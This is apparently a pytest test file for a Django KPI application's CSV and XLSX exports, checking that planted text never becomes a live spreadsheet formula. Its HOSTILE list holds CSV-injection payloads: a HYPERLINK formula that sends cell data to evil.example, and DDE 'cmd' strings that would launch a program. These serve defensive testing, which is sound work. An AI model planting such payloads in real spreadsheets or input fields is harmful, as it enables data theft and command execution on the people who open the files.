"""Every export — each URL and each command — read back with openpyxl and csv, with hostile
text planted wherever a user or the plan can put text: no live formula anywhere, and the
numbers are numbers.

Planted: a department's name, an indicator's name and unit, a series label, a theme's and a
direction's name, an actual's note, a return comment, a user's name and a member's address.
"""

import csv
import io
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.contrib.auth.models import User
from django.core.management import call_command
from django.test import Client
from django.urls import reverse

from indicators.models import Actual, ActualStatus, Department, Indicator, Series
from indicators.permissions import ROLE_STAFF, sync_roles
from kpi.csvsafe import FORMULA_PREFIXES
from measures.models import ActionPlan, Direction
from projects.models import Theme

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"詳細")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
YEAR = 2025


def _plant(plan: ActionPlan, django_user_model: type[User]) -> Indicator:
    sync_roles()
    department = Department.objects.create(name=HOSTILE[0], code="EVIL")
    # A project indicator of project 3 and an indicator of one of its themes.
    Indicator.objects.filter(name="刑法犯認知件数").update(name=HOSTILE[5])
    indicator = Indicator.objects.get(name="交通事故発生件数")
    indicator.name, indicator.unit, indicator.department = HOSTILE[1], "件", department
    indicator.save()
    series = Series.objects.get(indicator=indicator)
    series.label = HOSTILE[2]
    series.save()
    link = indicator.theme_links.select_related("theme", "direction").first()
    assert link is not None
    Theme.objects.filter(pk=link.theme_id).update(name=HOSTILE[3])
    Direction.objects.filter(pk=link.direction_id).update(name=HOSTILE[4])
    staff = django_user_model.objects.create_user(
        "evil", "=evil@example.jp", None, is_staff=True, first_name=HOSTILE[5], last_name=""
    )
    from django.contrib.auth.models import Group

    staff.groups.add(Group.objects.get(name=ROLE_STAFF))
    department.members.add(staff)
    Actual.objects.create(
        series=series,
        year=YEAR - 1,
        value=Decimal("1750"),
        note=HOSTILE[0],
        status=ActualStatus.APPROVED,
    )
    Actual.objects.create(
        series=series,
        year=YEAR,
        value=Decimal("-1702.5"),
        note=HOSTILE[4],
        status=ActualStatus.RETURNED,
        review_comment=HOSTILE[3],
        updated_by=staff,
    )
    return indicator


def _is_live(text: str) -> bool:
    """A cell a spreadsheet would run: starts like a formula and is not a plain number."""
    if not text.startswith(FORMULA_PREFIXES):
        return False
    try:
        Decimal(text)
    except ArithmeticError:
        return True
    return False


def _csv_cells(raw: bytes) -> Iterator[str]:
    assert raw.startswith(b"\xef\xbb\xbf")
    for row in csv.reader(io.StringIO(raw.decode("utf-8-sig"))):
        yield from row


def _xlsx_cells(raw: bytes) -> Iterator[Any]:
    book = openpyxl.load_workbook(io.BytesIO(raw))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def _check(raw: bytes, file_type: str, *, must_show: int) -> None:
    """No live formula; at least ``must_show`` of the planted strings are there, neutralised;
    and (XLSX) some cells are numbers."""
    if file_type == "csv":
        texts = list(_csv_cells(raw))
    else:
        cells = list(_xlsx_cells(raw))
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        assert any(c.data_type == "n" and c.value is not None for c in cells)
        texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if _is_live(t)]
    texts = [t.replace("\r\n", "\n").replace("\r", "\n") for t in texts]  # XML has no CR
    planted = [h.replace("\r", "\n") for h in HOSTILE]
    shown = {h for h in planted for t in texts if ("'" + h) in t}
    assert len(shown) >= must_show, shown


def _client(user: User) -> Client:
    client = Client()
    client.force_login(user)
    return client


@pytest.mark.parametrize("file_type", ["csv", "xlsx"])
def test_the_project_export_holds_no_live_formula(
    plan: ActionPlan,
    admin_user: User,
    django_user_model: type[User],
    file_type: str,
) -> None:
    _plant(plan, django_user_model)
    response = _client(admin_user).get(
        f"/projects/3/?year={YEAR}&provisional=1&_export={file_type}"
    )
    assert response.status_code == 200
    # department, indicator names (a project indicator's too), series label, theme; the
    # direction's name follows 「方針N：」 and is harmless there
    _check(response.content, file_type, must_show=5)


@pytest.mark.parametrize("file_type", ["csv", "xlsx"])
def test_the_entry_status_export_holds_no_live_formula(
    plan: ActionPlan,
    admin_user: User,
    django_user_model: type[User],
    file_type: str,
) -> None:
    _plant(plan, django_user_model)
    url = reverse("admin:indicators_actual_entry_status")
    response = _client(admin_user).get(url, {"year": str(YEAR), "format": file_type})
    assert response.status_code == 200
    # department, indicator name, series label, return comment, user name
    _check(response.content, file_type, must_show=5)


@pytest.mark.parametrize("file_type", ["csv", "xlsx"])
def test_the_entry_template_holds_no_live_formula(
    plan: ActionPlan,
    admin_user: User,
    django_user_model: type[User],
    file_type: str,
) -> None:
    indicator = _plant(plan, django_user_model)
    staff = django_user_model.objects.get(username="evil")
    url = reverse("admin:indicators_actual_import_template")
    for user in (admin_user, staff):
        response = _client(user).get(
            url, {"file_type": file_type, "department": str(indicator.department_id)}
        )
        assert response.status_code == 200
        # indicator name, series label, the notes of two years
        _check(response.content, file_type, must_show=4)


@pytest.mark.parametrize("output", ["kpi.csv", "kpi.xlsx", "-"])
def test_export_indicators_holds_no_live_formula(
    plan: ActionPlan, django_user_model: type[User], tmp_path: Path, output: str
) -> None:
    _plant(plan, django_user_model)
    if output == "-":
        out = io.StringIO()
        call_command("export_indicators", "--include-provisional", stdout=out)
        raw, file_type = out.getvalue().encode("utf-8"), "csv"
    else:
        target = tmp_path / output
        call_command("export_indicators", "--include-provisional", "--output", str(target))
        raw, file_type = target.read_bytes(), target.suffix[1:]
    _check(raw, file_type, must_show=3)  # two indicator names, a series label


def test_negative_values_stay_numbers_in_every_export(
    plan: ActionPlan,
    admin_user: User,
    django_user_model: type[User],
    tmp_path: Path,
) -> None:
    """-1702.5 is a number, not a formula: no quote in CSV, a numeric cell in XLSX."""
    _plant(plan, django_user_model)
    client = _client(admin_user)
    raw = client.get(f"/projects/3/?year={YEAR}&provisional=0&_export=csv").content
    assert "-1702.5" not in raw.decode("utf-8-sig")  # returned values are never counted
    template = client.get(reverse("admin:indicators_actual_import_template"), {"file_type": "csv"})
    assert ",-1702.5," in template.content.decode("utf-8-sig")
    xlsx = client.get(reverse("admin:indicators_actual_import_template"), {"file_type": "xlsx"})
    numbers = [c.value for c in _xlsx_cells(xlsx.content) if c.data_type == "n"]
    assert -1702.5 in numbers
